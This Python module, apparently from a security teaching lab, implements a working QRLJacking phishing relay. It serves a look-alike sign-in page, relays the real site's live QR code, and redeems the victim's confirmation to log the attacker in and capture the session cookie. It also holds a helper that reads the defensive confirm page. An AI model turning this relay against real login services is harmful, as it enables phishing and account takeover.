"""QRLJacking (OWASP): a phishing site relaying the real site's live QR code to the victim.

A QR login has a weakness no id length fixes: the person who scans cannot tell whose browser
the code came from. :class:`PhishingApp` is the attacker's site, whose server is the attacker's
browser on the real site; when the victim scans the relayed code and confirms, the attacker's
browser is logged in as the victim. :func:`confirm_page_facts` reads the defence, what the
phone's confirm page tells the victim about the browser that asked.
"""
from __future__ import annotations

import asyncio
import html
import re
import time
from typing import Any

import tornado.httpclient

from servers import runtime
from servers.clients.qr import AsyncBrowser, QRError
from servers.qrlogin import auth
from servers.runtime import ServerApp, ServerHandle, cancel_and_wait, serve
from servers.web import BaseHandler


# The attacker's own machine and browser, as the QR-login server records them.
ATTACKER_ADDRESS = "127.0.1.66"  # another /24 than the victim's 127.0.0.x: "another network"
ATTACKER_AGENT = "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0 (the attacker's relay)"


class AttackerBrowser(AsyncBrowser):
    """The attacker's browser on the real site (its own address, agent and binding cookie)."""

    agent = ATTACKER_AGENT


_PHISHING_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in with your phone</title></head>
<body><h1>Sign in to {site} with your phone</h1>
<p>Open the app on your phone and scan this code.</p>
<img id="qr" src="qr.png" alt="QR code" width="240" height="240">
<script>
// Keep the relayed code fresh, as QRLJacking kits do: a new image before the old one expires.
setInterval(() => {{ document.getElementById("qr").src = "qr.png?" + Date.now(); }}, {refresh_ms});
</script></body></html>
"""


class _PhishingPage(BaseHandler):
    def get(self) -> None:
        app: PhishingApp = self.application  # type: ignore[assignment]
        self.set_header("Content-Type", "text/html; charset=UTF-8")
        self.finish(_PHISHING_PAGE.format(site=html.escape(app.target_url), refresh_ms=int(app.refresh_s * 1000)))


class _PhishingQR(BaseHandler):
    async def get(self) -> None:
        app: PhishingApp = self.application  # type: ignore[assignment]
        png = await app.relay_qr()
        self.set_header("Content-Type", "image/png")
        self.set_header("Cache-Control", "no-store")
        self.finish(png)


class _PhishingStatus(BaseHandler):
    def get(self) -> None:
        self.write_json(self.application.status())  # type: ignore[attr-defined]


class PhishingApp(ServerApp):
    """The QRLJacking attacker (OWASP): a look-alike page showing the real site's live QR code.

    Its server is the attacker's browser on the real site: on each ``GET /qr.png`` it makes sure
    it holds a live ticket there (a new one when the last is about to expire), fetches the real
    ``/qr/{id}.png`` and relays the bytes. It watches its ticket over SSE like the real login page
    does, and when the victim's phone confirms, it redeems the ticket with *its own* binding
    cookie: the attacker's browser is now logged in as the victim. ``GET /status`` shows the
    attacker's side (the lesson's window into it).
    """

    def __init__(self, target_url: str, name: str = "phish", refresh_s: float = 20.0,
                 attacker_address: str | None = ATTACKER_ADDRESS) -> None:
        super().__init__([(r"/", _PhishingPage), (r"/qr\.png", _PhishingQR), (r"/status", _PhishingStatus)], name=name)
        self.target_url = str(target_url).rstrip("/")
        self.refresh_s = float(refresh_s)
        self.attacker = AttackerBrowser(self.target_url, "sse", attacker_address)
        self.ticket: dict[str, Any] | None = None
        self.tickets_created = 0
        self.relayed = 0
        self.logged_in_as: str | None = None
        self.events: list[dict[str, Any]] = []
        self.victory: asyncio.Future | None = None
        self._watchers: list[asyncio.Task] = []
        self._lock: asyncio.Lock | None = None

    async def startup(self) -> None:
        self.victory = asyncio.get_running_loop().create_future()
        self._lock = asyncio.Lock()

    async def shutdown(self) -> None:
        await cancel_and_wait(self._watchers)

    async def live_ticket(self) -> dict[str, Any]:
        """The attacker's current ticket on the real site, a fresh one if it is near its expiry."""
        async with self._lock:
            fresh_enough = self.ticket is not None and self.ticket["expires_at"] - time.time() > self.refresh_s
            if not fresh_enough:
                self.ticket = await self.attacker.create_ticket()
                self.tickets_created += 1
                self._watchers.append(asyncio.ensure_future(self._watch(self.ticket["ticket"])))
            return self.ticket

    async def relay_qr(self) -> bytes:
        ticket = await self.live_ticket()
        request = tornado.httpclient.HTTPRequest(f"{self.target_url}/qr/{ticket['ticket']}.png",
                                                 headers=self.attacker.headers(),
                                                 network_interface=self.attacker.source_address, request_timeout=10)
        response = await tornado.httpclient.AsyncHTTPClient().fetch(request)
        self.relayed += 1
        return response.body

    async def _watch(self, ticket: str) -> None:
        channel = None
        try:
            channel = await self.attacker.open_channel(ticket)
            seen = await channel.wait_for("confirmed", timeout=3600)
            self.events.append({"ticket": ticket, "state": seen["state"], "at": time.time()})
            if seen["state"] == "confirmed":
                redeemed = await self.attacker.redeem(ticket)
                self.logged_in_as = (await self.attacker.whoami())["user"]
                self.events.append({"ticket": ticket, "state": redeemed["state"], "at": time.time()})
                if self.victory is not None and not self.victory.done():
                    self.victory.set_result({"ticket": ticket, "user": self.logged_in_as,
                                             "session_cookie": self.attacker.cookies.get(auth.SESSION_COOKIE)})
        except (QRError, EOFError, asyncio.TimeoutError, OSError) as exc:
            self.events.append({"ticket": ticket, "error": str(exc), "at": time.time()})
        finally:
            if channel is not None:
                await channel.close()

    def status(self) -> dict[str, Any]:
        ticket = self.ticket or {}
        return {"ticket": ticket.get("ticket"), "scan_url": ticket.get("scan_url"), "expires_at": ticket.get("expires_at"),
                "tickets_created": self.tickets_created, "qr_images_relayed": self.relayed,
                "attacker_logged_in_as": self.logged_in_as}


def start_phishing_site(target: Any, name: str = "phish", refresh_s: float = 20.0,
                        attacker_address: str | None = ATTACKER_ADDRESS) -> ServerHandle:
    """Start the QRLJacking attacker's site against ``target`` (a URL or a server handle)."""
    return serve(PhishingApp(getattr(target, "url", target), name, refresh_s, attacker_address))


def wait_for_victory(phishing: ServerHandle, timeout: float = 10.0) -> dict[str, Any]:
    """Block until the attacker's browser is logged in (``TimeoutError`` if it never is)."""

    async def wait() -> dict[str, Any]:
        return await asyncio.wait_for(asyncio.shield(phishing.app.victory), timeout)

    try:
        return runtime.run(wait(), timeout=timeout + 5)
    except asyncio.TimeoutError:
        raise TimeoutError(f"the attacker was not logged in within {timeout} s") from None


_FACT_IDS = {"browser_address": "browser-ip", "browser_agent": "browser-ua", "asked_at": "browser-time",
             "state": "ticket-state", "network_warning": "network-warning"}


def confirm_page_facts(page_html: str) -> dict[str, str]:
    """What the phone's confirm page (``GET /m/{id}``) tells the person holding the phone."""
    facts = {}
    for key, element in _FACT_IDS.items():
        match = re.search(rf'id="{element}">(.*?)</dd>', page_html, re.S)
        facts[key] = html.unescape(match.group(1).strip()) if match else ""
    return facts
